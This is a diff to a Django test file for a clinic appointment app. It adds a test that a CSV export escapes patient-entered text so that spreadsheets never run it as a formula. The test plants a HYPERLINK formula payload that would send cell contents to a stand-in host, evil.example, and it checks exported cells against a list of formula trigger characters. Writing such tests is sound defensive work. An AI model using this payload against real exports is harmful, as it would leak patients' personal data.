@@ -154,3 +154,18 @@ def test_exports_say_what_the_admin_shows_in_the_clinics_time(client, front_desk
     assert rows[0] == ["At", "Username", "Action", "Request number"]
     assert rows[1][2] in {"Listed", "Exported"}
     assert len(rows[1][0]) == len("2026-07-14 09:05")
+
+
+def test_a_patients_words_never_become_a_formula_in_the_csv_export(
+    client, front_desk, stored_request
+):
+    attack = '=HYPERLINK("https://evil.example/?d="&C2&D2,"Call back")'
+    AppointmentRequest.objects.filter(pk=stored_request.pk).update(name=attack, phone="+1 555 0100")
+    client.force_login(front_desk)
+    export = client.get(reverse("appointment_requests:index") + "?export=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["Name"] == "'" + attack  # text, shown as typed, never run
+    assert row["Phone"] == "'+1 555 0100"
+    for cell in rows[1]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
